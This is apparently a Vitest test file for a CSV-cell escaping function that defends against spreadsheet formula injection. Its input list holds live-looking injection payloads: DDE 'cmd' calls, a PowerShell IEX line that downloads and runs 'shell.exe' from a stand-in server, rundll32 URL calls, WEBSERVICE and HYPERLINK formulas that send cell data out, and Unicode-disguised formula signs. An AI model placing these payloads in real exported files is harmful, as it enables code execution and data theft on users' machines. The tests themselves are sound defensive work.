import { expect, test } from 'vitest'
import { csvCell } from './csv-cell.ts'

/** What spreadsheets reckon with, and how one hides it. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  "=cmd|'/C powershell IEX(wget server/shell.exe)'!A0",
  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=HYPERLINK("https://example.org?x="&A1,"Details")',
  '=IMPORTXML("https://example.org", "//a/@href")',
  '=WEBSERVICE("https://example.org")',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\u2013 1+1',
  '\u2212 1+1',
  'Shop;=1+1',
  'Shop; "+1',
]

/** What a spreadsheet makes of a line, whichever sign it takes for the one between cells. */
function cells(line: string, separator: ',' | ';'): string[] {
  const found = line.matchAll(separator === ',' ? /(?:^|,)("(?:[^"]|"")*"|[^,]*)/g : /(?:^|;)("(?:[^"]|"")*"|[^;]*)/g)
  return [...found].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.replace(/^"|"$/g, '').replaceAll('""', '"') : cell,
  )
}

test.each(formulas)('%j is text in a spreadsheet', (text) => {
  for (const separator of [',', ';'] as const)
    for (const cell of cells(`x,${csvCell(text)},y`, separator))
      expect(cell).not.toMatch(/^[\s\p{Cf}"]*[=+\-@\u2013\u2212\uff1d\uff0b\uff0d\uff20]/u)
  expect(csvCell(text).replace(/^"|"$/g, '').replaceAll('""', '"').replaceAll("'", '')).toBe(text.replaceAll("'", ''))
})

test('what is no formula stays as it is', () => {
  for (const text of ['Müller & Söhne', 'a-b', '1 = 1', 'info@example.org', '日本語']) expect(csvCell(text)).toBe(text)
  expect([-5, 0.1 + 0.2, 1_234_567.8, Number.NaN].map(csvCell)).toEqual(['-5', '0.3', '1234570', ''])
  expect([csvCell('a,b'), csvCell('say "x"'), csvCell(undefined)]).toEqual(['"a,b"', '"say ""x"""', ''])
})
